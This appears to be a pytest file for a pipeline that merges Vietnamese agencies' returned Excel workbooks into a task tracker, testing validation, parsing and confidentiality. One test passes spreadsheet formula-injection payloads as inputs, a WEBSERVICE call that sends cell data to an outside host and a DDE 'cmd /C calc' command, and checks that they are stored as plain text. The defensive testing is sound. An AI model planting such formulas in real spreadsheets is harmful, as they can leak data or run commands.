"""A returned file is checked: what can't be is listed with its address, the rest is taken; nothing of it computes."""

from __future__ import annotations

from datetime import date
from io import BytesIO
from typing import Any
from zipfile import ZipFile

import pytest
from openpyxl import Workbook, load_workbook

from pipeline.follow.extras import MOST_CELLS
from pipeline.follow.merge import Merged, merge
from pipeline.follow.share import agency_workbooks
from pipeline.messages import PipelineError
from pipeline.model import Document, Source
from pipeline.write.tracking.model import DISPUTES, STRAYS, TASKS
from pipeline.write.tracking.read import read_tracker
from tests.tracking_build import TODAY, cell, edited, few, fresh, made, plan, rows, task, typed

BACK, SINCE = date(2025, 3, 20), date(2025, 1, 6)


def returned(content: bytes, owner: str, values: dict[tuple[int, str], Any], name: str = "mot.xlsx") -> Merged:
    """The workbook after an agency has filled ``values`` in and its file was merged."""
    file = dict(agency_workbooks(content, TODAY))[owner]
    return merge(content, [(name, typed(file, values))], BACK, since=SINCE)


@pytest.mark.parametrize(
    ("key", "value", "why"),
    [
        ("due", date(2025, 12, 31), "cột khoá"),
        ("action", "Việc nhẹ hơn", "cột khoá"),
        ("extended", date(2025, 12, 31), "cột khoá"),
        ("status", "Đang chờ tiền", "danh sách trạng thái"),
        ("progress", 80, "từ 0 đến 100 %"),
        ("progress", "8000 %", "từ 0 đến 100 %"),
        ("done_on", date(2025, 3, 21), "sau ngày nhận"),
        ("done_on", date(2024, 12, 31), "trước ngày ban hành"),
        ("done_on", "cuối tháng", "ngày/tháng/năm"),
        ("done_on", "=TODAY()", "công thức"),
        ("asked", date(2025, 3, 31), "không sau thời hạn"),
    ],
)
def test_what_cannot_be_is_listed_and_the_rest_taken(key: str, value: Any, why: str) -> None:
    merged = returned(fresh(), "Sở Một", {(1, key): value, (1, "result"): "số 5/BC"})
    (found,) = merged.findings
    assert (found.task_id, why in found.why, found.address[-1]) == ("II.1-01", True, "6")
    assert [row.words("why") for row in read_tracker(merged.content, "x").tracker.rows(DISPUTES)] == [found.why]
    assert rows(merged.content)[0].words(key) == rows(fresh())[0].words(key)
    assert cell(merged.content, 1, "result") == "số 5/BC"
    assert any(found.line() == line for line in merged.lines)


@pytest.mark.parametrize(
    ("key", "typed_as", "value"),
    [
        ("status", " đã  hoàn thành", "Chờ xác nhận"),
        ("progress", "100 %", 1),
        ("done_on", "12/3/2025 ", date(2025, 3, 12)),
        ("asked", "30.4.2025", date(2025, 4, 30)),
    ],
)
def test_what_is_said_in_other_spellings_is_taken(key: str, typed_as: str, value: Any) -> None:
    assert rows(returned(fresh(), "Sở Một", {(1, key): typed_as}).content)[0].cells[key] == value


def test_day_of_completion_alone_waits_for_acceptance() -> None:
    merged = returned(fresh(), "Sở Một", {(1, "done_on"): date(2025, 3, 12)})
    assert (cell(merged.content, 1, "status"), cell(merged.content, 1, "condition")) == ("Chờ xác nhận", "Chờ xác nhận")


@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://x.vn/"&A1)', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x")'])
def test_formula_of_an_agency_is_text(formula: str) -> None:
    merged = returned(fresh(), "Sở Một", {(1, "note"): formula, (4, "action"): "Việc thêm", (4, "result"): formula})
    book = load_workbook(BytesIO(merged.content))
    held = [c for line in book[TASKS.title].iter_rows() for c in line if c.value == formula]
    assert [c.data_type for c in held] == ["s", "s"]
    assert len(merged.findings) == 2


def test_formulas_on_an_agencys_own_sheet_are_text() -> None:
    def work(workbook: Workbook) -> None:
        workbook.create_sheet("Số liệu")["B2"] = '=WEBSERVICE("http://x.vn")'

    file = edited(dict(agency_workbooks(fresh(), TODAY))["Sở Hai"], work)
    merged = merge(fresh(), [("hai.xlsx", file)], BACK)
    found = load_workbook(BytesIO(merged.content))["hai - Số liệu"]["B2"]
    assert (found.value, found.data_type) == ('=WEBSERVICE("http://x.vn")', "s")
    assert merge(merged.content, [("hai.xlsx", file)], BACK).content == merged.content


def test_sheet_of_an_agency_that_is_too_large_is_refused_in_a_line() -> None:
    def work(workbook: Workbook) -> None:
        sheet = workbook.create_sheet("Sổ cái")
        for number in range(MOST_CELLS // 20 + 1):
            sheet.append([f"{number}.{n}" for n in range(20)])

    merged = merge(fresh(), [("hai.xlsx", edited(dict(agency_workbooks(fresh(), TODAY))["Sở Hai"], work))], BACK)
    assert read_tracker(merged.content, "x").tracker.extra_sheets == ()
    assert any("«Sổ cái»" in line for line in merged.lines)


def test_column_of_an_agencys_own_comes_to_its_sheet_not_into_ours() -> None:
    def work(workbook: Workbook) -> None:
        sheet = workbook[TASKS.title]
        sheet.cell(TASKS.head, len(TASKS.columns) + 1).value = "Người làm"
        sheet.cell(TASKS.head + 1, len(TASKS.columns) + 1).value = "Chị Tư"

    merged = merge(fresh(), [("hai.xlsx", edited(dict(agency_workbooks(fresh(), TODAY))["Sở Hai"], work))], BACK)
    found = read_tracker(merged.content, "x").tracker
    assert found.extra_columns.get(TASKS.title, ()) == ()
    assert [(row.words("cell"), row.words("words")) for row in found.rows(STRAYS)] == [
        ("II.2-01, cột «Người làm»", "Chị Tư")
    ]


def test_more_than_twenty_findings_are_counted() -> None:
    many = plan(*(task(f"I.1-{n:02d}", f"Việc thứ {n} của kế hoạch", end=date(2025, 4, 1)) for n in range(1, 26)))
    merged = returned(made(many), "Sở Một", {(n, "status"): "?" for n in range(1, 26)})
    assert len(merged.findings) == 25
    assert "và 5 chỗ nữa" in merged.lines[-1]


def test_file_of_another_plan_is_refused() -> None:
    from dataclasses import replace

    other = replace(few(), document=Document(Source("khac.docx", "1" * 64, 1), ()))
    file = dict(agency_workbooks(made(other), TODAY))["Sở Một"]
    with pytest.raises(PipelineError, match="E342.*7/KH-UBND"):
        merge(fresh(), [("la.xlsx", file)], BACK)


def test_nothing_of_the_offices_own_leaves() -> None:
    from openpyxl.comments import Comment

    def work(workbook: Workbook) -> None:
        sheet = workbook[TASKS.title]
        for key in ("note", "doubt", "evidence"):
            sheet.cell(TASKS.head + 1, TASKS.at(key)).value = "tuyệtmật của văn phòng"
        sheet.cell(TASKS.head + 1, TASKS.at("result")).comment = Comment("tuyệtmật của văn phòng", "tuyệtmật")
        sheet.cell(TASKS.head, len(TASKS.columns) + 1).value = "tuyệtmật cột riêng"
        sheet.cell(TASKS.head + 1, len(TASKS.columns) + 1).value = "tuyệtmật của văn phòng"
        workbook.create_sheet("tuyệtmật riêng")["A1"] = "tuyệtmật của văn phòng"
        workbook["tuyệtmật riêng"].sheet_state = "hidden"

    for owner, file in agency_workbooks(edited(fresh(), work), TODAY):
        with ZipFile(BytesIO(file)) as package:
            parts = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
        assert [name for name, part in parts.items() if "tuyệtmật" in part] == []
        other = {"Sở Một": "Trồng cây", "Sở Hai": "Sơn lại"}[owner]
        assert [name for name, part in parts.items() if other in part] == []


def test_note_that_came_from_the_agency_goes_back_to_it() -> None:
    merged = returned(fresh(), "Sở Một", {(1, "note"): "chờ vật tư"})
    again = dict(agency_workbooks(merged.content, BACK))["Sở Một"]
    assert rows(again)[0].words("note") == "chờ vật tư"


def test_agency_can_fill_its_columns_and_no_others() -> None:
    sheet = load_workbook(BytesIO(dict(agency_workbooks(fresh(), TODAY))["Sở Một"]))[TASKS.title]
    opened = {c.key for c in TASKS.columns if not sheet.cell(TASKS.head + 1, TASKS.at(c.key)).protection.locked}
    assert opened == {"status", "progress", "done_on", "result", "reason", "note", "asked"}
